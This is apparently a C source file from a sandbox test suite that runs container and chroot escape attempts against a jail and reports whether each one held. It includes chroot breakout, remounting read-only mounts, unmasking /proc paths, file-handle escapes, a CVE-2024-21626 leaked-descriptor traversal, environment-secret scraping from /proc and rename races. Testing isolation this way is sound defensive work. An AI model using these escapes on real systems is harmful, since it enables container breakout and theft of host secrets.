/* SPDX-License-Identifier: MIT */
/* Attacks on the file system of the host. */
#include <sched.h>
#include <sys/statvfs.h>

#include "attack.h"

static void write_to(char **words) {
    int fd = open(words[0], O_WRONLY | O_APPEND);

    if (fd >= 0 && write(fd, "changed\n", 8) == 8)
        escaped("%s was written", words[0]);
    held("open");
}

static void read_secret(char **words) {
    try_secret(AT_FDCWD, words[0], words[1]);
    held("open");
}

static void remount(char **words) {
    struct {
        uint64_t set, clear, propagation, userns;
    } attributes = {0, 1 /* MOUNT_ATTR_RDONLY */, 0, 0};

    if (mount(NULL, words[0], NULL, MS_REMOUNT | MS_BIND, NULL) < 0 &&
        syscall(SYS_mount_setattr, AT_FDCWD, words[0], 0x8000 /* AT_RECURSIVE */, &attributes,
                sizeof attributes) < 0)
        held("mount");
    write_to(words + 1);
}

/* The same with all capabilities over a user namespace of one's own. */
static void remount_nested(char **words) {
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
        held("unshare");
    mount(words[0], words[0], NULL, MS_BIND | MS_REC, NULL);
    remount(words);
}

static void remount_suid(char **words) {
    struct statvfs status;

    if (mount(NULL, words[0], NULL, MS_REMOUNT | MS_BIND, NULL) < 0)
        held("mount");
    if (statvfs(words[0], &status) == 0 && !(status.f_flag & (ST_NOSUID | ST_NODEV)))
        escaped("%s is neither nosuid nor nodev", words[0]);
    errno = 0;
    held("still nosuid or nodev");
}

static void read_masked(char **words) {
    static const char *const ways[] = {"", "/proc/self/root", "/proc/thread-self/root",
                                       "/proc/1/root"};
    char path[256], data[16];

    for (size_t i = 0; i < sizeof ways / sizeof ways[0]; i++) {
        snprintf(path, sizeof path, "%s%s", ways[i], words[0]);
        if (read_file(path, data, sizeof data) > 0)
            escaped("%s was read", path);
    }
    held("empty or unreadable");
}

static void unmount_mask(char **words) {
    if (umount2(words[0], MNT_DETACH) < 0)
        held("umount2");
    read_masked(words);
}

static void move_mask(char **words) {
    close(open("/tmp/tsjail-attack.moved", O_CREAT, 0600));
    if (mount(words[0], "/tmp/tsjail-attack.moved", NULL, MS_MOVE, NULL) < 0)
        held("mount");
    read_masked(words);
}

/* A mount alone, without what is mounted in it: by mount(2), and as a descriptor by open_tree(2).
 */
static void bind_below(char **words) {
    char path[256], data[16];
    int tree = (int)syscall(SYS_open_tree, AT_FDCWD, words[0], 1 /* OPEN_TREE_CLONE */ | O_CLOEXEC);

    if (tree >= 0 && (tree = openat(tree, words[1] + 1, O_RDONLY)) >= 0 &&
        read(tree, data, sizeof data) > 0)
        escaped("open_tree shows it");
    mkdir("/tmp/tsjail-attack.bind", 0700);
    if (mount(words[0], "/tmp/tsjail-attack.bind", NULL, MS_BIND, NULL) < 0)
        held("mount");
    snprintf(path, sizeof path, "/tmp/tsjail-attack.bind%s", words[1]);
    read_masked((char *[]){path, NULL});
}

static void fresh_proc(char **words) {
    int context = (int)syscall(SYS_fsopen, "proc", 0), tree;
    char data[16];

    /* FSCONFIG_CMD_CREATE: a procfs as a descriptor, mounted nowhere */
    if (context >= 0 && syscall(SYS_fsconfig, context, 6, NULL, NULL, 0) == 0 &&
        (tree = (int)syscall(SYS_fsmount, context, 0, 0)) >= 0 &&
        (tree = openat(tree, strrchr(words[0], '/') + 1, O_RDONLY)) >= 0 &&
        read(tree, data, sizeof data) > 0)
        escaped("fsopen shows it");
    mkdir("/tmp/tsjail-attack.proc", 0700);
    if (mount("proc", "/tmp/tsjail-attack.proc", "proc", 0, NULL) < 0)
        held("mount");
    read_masked((char *[]){words[0], NULL});
}

static void uncover(char **words) {
    if (umount2(words[0], MNT_DETACH) < 0)
        held("umount2");
    try_secret(AT_FDCWD, words[1], words[2]);
    held("%s", words[1]);
}

/* A new root inside the root, with the working directory left outside of it, leads to the real one.
 */
static void leave_chroot(char **words) {
    char made[] = "/tmp/tsjail-attack.XXXXXX", up[4096] = "";

    mkdir("/tmp", 0777);
    if (!mkdtemp(made) || chdir("/") < 0)
        held("mkdtemp");
    if (chroot(made) < 0)
        held("chroot");
    for (int i = 0; i < 200; i++)
        strcat(up, "../");
    if (chdir(up) < 0 || chroot(".") < 0)
        held("chroot");
    try_secret(AT_FDCWD, words[0], words[1]);
    held("%s", words[0]);
}

/* Another root, on which everything can be written, with the old one below it. */
static void turn_root(char **words) {
    char new[64] = "/tmp/tsjail-attack.XXXXXX", old[80];

    (void)words;
    if (unshare(CLONE_NEWNS) < 0)
        held("unshare");
    if (!mkdtemp(new))
        held("mkdtemp");
    snprintf(old, sizeof old, "%s/old", new);
    if (mount("new", new, "tmpfs", 0, NULL) < 0 || mkdir(old, 0700) < 0 ||
        syscall(SYS_pivot_root, new, old) < 0)
        held("pivot_root");
    escaped("the root is another one");
}

static void mount_on(char **words) {
    if (mount("spread", words[0], "tmpfs", 0, NULL) < 0)
        held("mount");
    errno = 0;
    held("mounted; seen only here unless the test says so");
}

/* As hexadecimal digits, for open_handle. Not an attack. */
static void make_handle(char **words) {
    struct file_handle *handle = calloc(1, sizeof *handle + MAX_HANDLE_SZ);
    int id;

    handle->handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, words[0], handle, &id, 0) < 0)
        held("name_to_handle_at");
    printf("%d ", handle->handle_type);
    for (unsigned i = 0; i < handle->handle_bytes; i++)
        printf("%02x", handle->f_handle[i]);
    printf("\n");
    exit(0);
}

/* Words: a directory that is shown, the type and the digits, the secret. */
static void open_handle(char **words) {
    struct file_handle *handle = calloc(1, sizeof *handle + MAX_HANDLE_SZ);
    int directory = open(words[0], O_RDONLY | O_DIRECTORY), fd;
    char path[64];

    handle->handle_type = atoi(words[1]);
    for (const char *digit = words[2]; digit[0] && digit[1]; digit += 2)
        sscanf(digit, "%2hhx", &handle->f_handle[handle->handle_bytes++]);
    fd = open_by_handle_at(directory, handle, O_RDONLY);
    if (fd < 0)
        held("open_by_handle_at");
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    try_secret(AT_FDCWD, path, words[3]);
    held("another file");
}

/* CVE-2024-21626: a directory of the host's among the descriptors. */
static void leaked_directory(char **words) {
    char path[64];

    for (int fd = 0; fd < 256; fd++) {
        try_secret(fd, "secret", words[0]);
        for (int i = 0; i < 5; i++) {
            static const char *const ups[] = {"secret", "../secret", "../../secret",
                                              "../../../secret", "file"};
            snprintf(path, sizeof path, "/proc/self/fd/%d/%s", fd, ups[i]);
            try_secret(AT_FDCWD, path, words[0]);
        }
    }
    held("no descriptor leads out");
}

static void find_above(char **words) {
    static const char *const ups[] = {"secret", "../secret", "../../secret", "../../../secret",
                                      "/proc/self/cwd/secret"};

    for (size_t i = 0; i < sizeof ups / sizeof ups[0]; i++)
        try_secret(AT_FDCWD, ups[i], words[0]);
}

static void outside_directory(char **words) {
    char here[4096];

    find_above(words);
    if (syscall(SYS_getcwd, here, sizeof here) > 0 && here[0] != '/')
        escaped("the working directory is %s", here);
    held("no way out of the working directory");
}

/* The directory where it stands is moved out of what the jail shows, while it stands there. */
static void moved_directory(char **words) {
    char data[8];

    if (chdir(words[0]) < 0)
        held("chdir");
    printf("ready\n");
    fflush(stdout);
    if (read(0, data, sizeof data) < 0)
        held("read");
    find_above(words + 1);
    held("no way up");
}

static volatile sig_atomic_t is_over;
static void end(int number) {
    (void)number;
    is_over = 1;
}

/* What the caller has in its environment. Other processes of the jail may have got it, too. */
static void find_variable(char **words) {
    char path[64], data[65536];

    if (getenv(words[0]))
        escaped("it was passed on");
    for (int pid = 1; pid < 64; pid++) {
        snprintf(path, sizeof path, "/proc/%d/environ", pid);
        ssize_t length = read_file(path, data, sizeof data);
        if (length > 0 && memmem(data, (size_t)length, words[0], strlen(words[0])))
            escaped("%s has it", path);
    }
    held("no environ");
}

/* Not an attack by itself: exchanges two names until it is ended; says how often. */
static void exchange(char **words) {
    unsigned long rounds = 0;

    signal(SIGTERM, end);
    printf("ready\n");
    fflush(stdout);
    while (!is_over) {
        if (syscall(SYS_renameat2, AT_FDCWD, words[0], AT_FDCWD, words[1],
                    2 /* RENAME_EXCHANGE */) == 0)
            rounds++;
        else if (errno != ENOENT)
            held("renameat2");
        if (words[2])
            usleep((useconds_t)atoi(words[2]));
    }
    if (rounds % 2) /* as it was */
        syscall(SYS_renameat2, AT_FDCWD, words[0], AT_FDCWD, words[1], 2);
    printf("%lu\n", rounds);
    exit(0);
}

/* The twin of the race: what a set-up by path does, look first and then act. Words: a directory,
 * where a link that takes its place leads to. */
static void act_by_path(char **words) {
    char inside[512], outside[512];
    struct stat status;

    snprintf(inside, sizeof inside, "%s/made", words[0]);
    snprintf(outside, sizeof outside, "%s/made", words[1]);
    for (int round = 0; round < 2000000; round++) {
        if (lstat(words[0], &status) < 0 || !S_ISDIR(status.st_mode))
            continue;
        close(open(inside, O_CREAT | O_WRONLY, 0600));
        if (round % 16 == 0 && access(outside, F_OK) == 0)
            escaped("made outside after %d rounds", round);
    }
    errno = 0;
    held("never lost the race");
}

const struct attack files[] = {{"write_to", write_to},
                               {"read_secret", read_secret},
                               {"remount", remount},
                               {"remount_nested", remount_nested},
                               {"remount_suid", remount_suid},
                               {"read_masked", read_masked},
                               {"unmount_mask", unmount_mask},
                               {"move_mask", move_mask},
                               {"bind_below", bind_below},
                               {"fresh_proc", fresh_proc},
                               {"uncover", uncover},
                               {"leave_chroot", leave_chroot},
                               {"turn_root", turn_root},
                               {"mount_on", mount_on},
                               {"make_handle", make_handle},
                               {"open_handle", open_handle},
                               {"leaked_directory", leaked_directory},
                               {"outside_directory", outside_directory},
                               {"moved_directory", moved_directory},
                               {"find_variable", find_variable},
                               {"exchange", exchange},
                               {"act_by_path", act_by_path},
                               {0}};
